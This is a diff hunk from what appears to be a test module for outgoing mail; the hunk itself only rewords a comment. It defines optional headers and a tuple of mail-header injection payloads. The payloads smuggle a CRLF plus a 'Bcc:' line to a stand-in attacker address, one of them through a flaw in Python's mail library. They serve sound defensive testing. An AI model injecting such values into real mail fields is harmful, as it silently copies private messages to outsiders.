@@ -26,7 +26,8 @@ TEMPLATES = Path(__file__).parents[2] / "templates/mail"
 # Headers that are there only if their values are: an address for answers, and the link that refuses messages.
 OPTIONAL = {"Reply-To", "List-Id", "List-Unsubscribe", "List-Unsubscribe-Post", "Precedence"}
 RAW_HEADER = re.compile(rb"(?:\r\n|\r|\n|^)([!-9;-~]+):")
-# Each field of each mail gets these: a line of its own, and a payload for a flaw of Python's own mail library (F2).
+# Texts that are tried in each field of each mail: with a header line of its own, and with a payload for a flaw of
+# Python's own mail library (F2).
 BREAKING = ("A\r\nBcc: zqevil@evil.example", "A \U0001f4a9 =?UTF-8?Q?=0A?=Bcc: zqevil@evil.example")
 PIECES = (
     *(
